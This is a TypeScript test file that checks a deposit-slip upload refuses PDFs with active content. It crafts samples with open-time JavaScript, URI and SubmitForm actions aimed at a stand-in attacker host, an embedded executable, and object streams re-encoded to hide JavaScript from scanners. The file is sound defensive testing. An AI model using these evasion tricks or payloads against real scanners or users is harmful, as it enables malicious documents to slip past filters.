// PDF slips with active content, built with pdf-lib as an attacker would: JavaScript or an action on
// opening hidden in a compressed object stream (one filter, a chain, ASCIIHex), actions that leave the
// document, and an embedded program. Each is refused; a plain PDF (with a link) is kept.
import { deflateSync, inflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString, type PDFDict } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { depositMessages } from '@donaciones/shared/messages/deposits';
import { processSlipFile } from '../../src/domain/deposits/slip-files';
import { inspectPdf } from '../../src/domain/deposits/pdf-inspection';

const e = depositMessages.errors;

async function pdfWith(change: (doc: PDFDocument) => void | Promise<void>, options: { objectStreams?: boolean } = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([300, 200]).drawText('Boleta de deposito 123', { x: 20, y: 100, size: 12 });
  await change(doc);
  return Buffer.from(await doc.save({ useObjectStreams: options.objectStreams ?? true }));
}

const action = (doc: PDFDocument, entries: Record<string, unknown>) => doc.context.register(doc.context.obj(entries as never));

/**
 * Rewrites every object stream of a pdf-lib file (Flate) with `filter`: the same objects, hidden
 * behind a chain of filters or in hexadecimal.
 */
function refilterObjectStreams(file: Buffer, filter: 'FlateFlate' | 'ASCIIHex'): Buffer {
  const text = file.toString('latin1');
  const out: Buffer[] = [];
  let last = 0;
  const re = /<<((?:(?!endobj|stream)[^])*?)>>\s*stream\r?\n/g;
  for (let m = re.exec(text); m; m = re.exec(text)) {
    const dictText = m[1];
    if (!dictText.includes('/Type /ObjStm')) continue;
    const lengthMatch = /\/Length (\d+)/.exec(dictText)!;
    const start = m.index + m[0].length;
    const data = file.subarray(start, start + Number(lengthMatch[1]));
    const inner = data; // already Flate
    const body = filter === 'FlateFlate' ? deflateSync(inner) : Buffer.from(`${inflateSync(inner).toString('hex')}>`, 'latin1');
    const newDict = dictText.replace(/\/Filter \/FlateDecode/, filter === 'FlateFlate' ? '/Filter [/FlateDecode /FlateDecode]' : '/Filter /ASCIIHexDecode').replace(/\/Length \d+/, `/Length ${body.length}`);
    out.push(file.subarray(last, m.index), Buffer.from(`<<${newDict}>>\nstream\n`, 'latin1'), body);
    last = start + data.length;
    re.lastIndex = last;
  }
  out.push(file.subarray(last));
  return Buffer.concat(out);
}

const openJs = (doc: PDFDocument) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));

describe('PDF slips with active content', () => {
  it('a plain PDF with a clickable link is kept', async () => {
    const plain = await pdfWith((doc) => {
      const link = action(doc, { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50], A: { S: 'URI', URI: PDFString.of('https://banco.example') } });
      (doc.getPage(0).node as PDFDict).set(PDFName.of('Annots'), doc.context.obj([link]));
    });
    expect(await inspectPdf(plain)).toBe('clean');
    expect((await processSlipFile(plain)).contentType).toBe('application/pdf');
  });

  it.each([
    ['JavaScript on opening, in an object stream', openJs],
    ['an /OpenAction with URI', (doc: PDFDocument) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'URI', URI: PDFString.of('https://atacante.example') }))],
    ['an /OpenAction with SubmitForm', (doc: PDFDocument) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'SubmitForm', F: PDFString.of('https://atacante.example') }))],
    ['an /OpenAction with GoToR', (doc: PDFDocument) => doc.catalog.set(PDFName.of('OpenAction'), action(doc, { S: 'GoToR', F: PDFString.of('otro.pdf'), D: [0, 'Fit'] }))],
    ['an embedded invoice.exe', async (doc: PDFDocument) => doc.attach(Buffer.from('MZ programa'), 'invoice.exe', { mimeType: 'application/octet-stream' })],
  ])('%s is refused in Spanish', async (_what, change) => {
    const file = await pdfWith(change);
    expect(await inspectPdf(file)).toBe('active');
    await expect(processSlipFile(file)).rejects.toThrow(e.pdfScript);
  });

  it.each(['FlateFlate', 'ASCIIHex'] as const)('JavaScript in an object stream filtered %s is refused', async (filter) => {
    const file = refilterObjectStreams(await pdfWith(openJs), filter);
    expect(file.toString('latin1')).toContain(filter === 'FlateFlate' ? '[/FlateDecode /FlateDecode]' : '/ASCIIHexDecode');
    expect(file.toString('latin1')).not.toContain('/JavaScript');
    expect(await inspectPdf(file)).toBe('active');
    await expect(processSlipFile(file)).rejects.toThrow(e.pdfScript);
  });
});
